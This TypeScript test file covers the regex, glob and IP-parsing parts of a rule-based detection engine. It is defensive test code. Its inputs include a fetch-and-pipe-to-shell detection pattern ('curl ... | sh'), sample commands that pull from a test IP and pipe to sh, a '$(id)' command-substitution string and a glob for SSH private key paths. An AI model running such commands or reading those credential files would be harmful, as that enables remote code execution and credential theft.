import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { HangarDetector } from "./detector.js";
import { compileSources } from "./load.js";
import { CidrSet, compileGlob, compileRegex, parseIPv4 } from "./match.js";
import { testEvent } from "./testevents.js";

const META = `description "d" severity high mitre T1059 maturity stable`;
const KB4 = 4096;

/** A detector with one rule: exec whose arguments match `pattern`. */
function argsRule(pattern: string): HangarDetector {
  const src = `rule r { ${META}
  event exec where process.arguments regex '${pattern}'
  test "t" { at 0s exec { } expect no match } }`;
  const r = compileSources(new Map([["r.rules", src]]));
  assert.equal(r.ok, true, JSON.stringify(r.diagnostics));
  return new HangarDetector({ rules: r.rules, latenessMs: 0 });
}

let n = 0;
function fires(d: HangarDetector, args: string): boolean {
  const out = d.process(testEvent("exec", n, n++, new Map([["process.arguments", args]])));
  return (out?.alerts.length ?? 0) > 0;
}

describe("rule regexes (RE2JS, linear-time)", () => {
  it("the patterns that stalled V8's backtracking engine match correctly on 4 KB inputs", () => {
    const aStar = argsRule("a*a*a*b");
    assert.equal(fires(aStar, "a".repeat(KB4)), false, "no b: no match");
    assert.equal(fires(aStar, `${"a".repeat(KB4 - 1)}b`), true);
    assert.equal(fires(aStar, `${"a".repeat(KB4 / 2)}c${"a".repeat(KB4 / 2)}`), false);

    const curl = argsRule("curl.*\\s+.*\\|\\s*sh");
    const pad = " ".repeat(KB4 - 40);
    assert.equal(fires(curl, `curl http://203.0.113.9/x${pad}| sh`), true);
    assert.equal(fires(curl, `curl http://203.0.113.9/x${pad}| bash`), false, "| bash is not | sh");
    assert.equal(fires(curl, `curl${" |".repeat(KB4 / 2)}`), false);
    assert.equal(fires(curl, `wget http://203.0.113.9/x${pad}| sh`), false);
  });

  it("nested quantifiers RE2 runs in linear time are accepted ((a+)+, (a|aa)*)", () => {
    const d = argsRule("^(a+)+$");
    assert.equal(fires(d, "a".repeat(KB4)), true);
    assert.equal(fires(d, `${"a".repeat(KB4)}!`), false);
    assert.equal(compileRegex("(a|aa)*c").test(`${"a".repeat(KB4)}c`), true);
  });

  it("has no length cap on the input: a padded argument does not skip the rule", () => {
    const d = argsRule("\\$\\(");
    assert.equal(fires(d, `${"x".repeat(70_000)} $(id)`), true);
  });

  it("refuses back-references and lookaround with a reason and the place in the pattern", () => {
    assert.throws(() => compileRegex("(a)\\1"), /back-references are not supported \(at character 4\)/);
    assert.throws(() => compileRegex("(?P<x>a)\\k<x>"), /back-references are not supported/);
    assert.throws(
      () => compileRegex("a(?=b)"),
      /lookahead and lookbehind are not supported \(at character 2\)/,
    );
    assert.throws(() => compileRegex("(?<=a)b"), /lookahead and lookbehind/);
    assert.throws(() => compileRegex("(?<!a)b"), /lookahead and lookbehind/);
    assert.throws(() => compileRegex("(a"), /not in the RE2 syntax: missing closing \)/);
    assert.throws(() => compileRegex("x".repeat(1025)), /longer than 1024 characters/);
    // Escaped, these are plain characters: accepted.
    assert.equal(compileRegex("\\\\1").test("\\1"), true);
    assert.equal(compileRegex("\\(\\?=").test("(?="), true);
  });

  it("globs compile to RE2JS too: ** across elements, * within one", () => {
    const g = compileGlob("/home/*/.ssh/id_*");
    assert.equal(g.test("/home/ana/.ssh/id_rsa"), true);
    assert.equal(g.test("/home/ana/x/.ssh/id_rsa"), false);
    const deep = compileGlob("/**a**a**a**b");
    assert.equal(deep.test(`/${"a/".repeat(KB4)}`), false);
    assert.equal(deep.test(`/${"a/".repeat(KB4)}b`), true);
    assert.equal(compileGlob("/etc/[!a]*").test("/etc/passwd"), true);
    assert.equal(compileGlob("/etc/[!a]*").test("/etc/alternatives"), false);
  });
});

describe("parseIPv4", () => {
  /** The rule as written: four dot-separated groups of 1–3 digits, each at most 255. */
  function reference(s: string): number | undefined {
    const parts = s.split(".");
    if (parts.length !== 4) return undefined;
    let n = 0;
    for (const p of parts) {
      if (!/^\d{1,3}$/.test(p)) return undefined;
      const x = Number(p);
      if (x > 255) return undefined;
      n = n * 256 + x;
    }
    return n;
  }

  it("reads dotted quads and refuses everything else", () => {
    assert.equal(parseIPv4("10.0.0.1"), 0x0a000001);
    assert.equal(parseIPv4("255.255.255.255"), 0xffffffff);
    assert.equal(parseIPv4("0.0.0.0"), 0);
    assert.equal(parseIPv4("010.001.000.009"), 0x0a010009);
    for (const bad of [
      "",
      "1.2.3",
      "1.2.3.4.5",
      "1.2.3.256",
      "1..3.4",
      ".1.2.3",
      "1.2.3.4.",
      "1.2.3.0004",
      " 1.2.3.4",
      "1.2.3.4 ",
      "1.2.3.a",
      "1.2.3.-4",
      "::1",
      "::ffff:1.2.3.4",
      "１.2.3.4",
    ])
      assert.equal(parseIPv4(bad), undefined, bad);
  });

  it("agrees with the rule as written on generated text", () => {
    const alphabet = "0123456789.9.25.a:";
    let seed = 7;
    const rnd = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed % n;
    };
    for (let i = 0; i < 20_000; i++) {
      let s = "";
      const len = 1 + rnd(17);
      for (let j = 0; j < len; j++) s += alphabet[rnd(alphabet.length)];
      if (i % 3 === 0) s = [rnd(300), rnd(300), rnd(300), rnd(1000)].join(".");
      assert.equal(parseIPv4(s), reference(s), s);
    }
  });

  it("keeps CidrSet membership for IPv4 and IPv6", () => {
    const set = new CidrSet(["10.0.0.0/8", "192.168.1.0/24", "fd00::/8"]);
    assert.equal(set.has("10.200.3.4"), true);
    assert.equal(set.has("192.168.1.77"), true);
    assert.equal(set.has("192.168.2.1"), false);
    assert.equal(set.has("fd12::1"), true);
    assert.equal(set.has("fe80::1"), false);
    assert.equal(set.has("10.0.0.256"), false);
  });
});
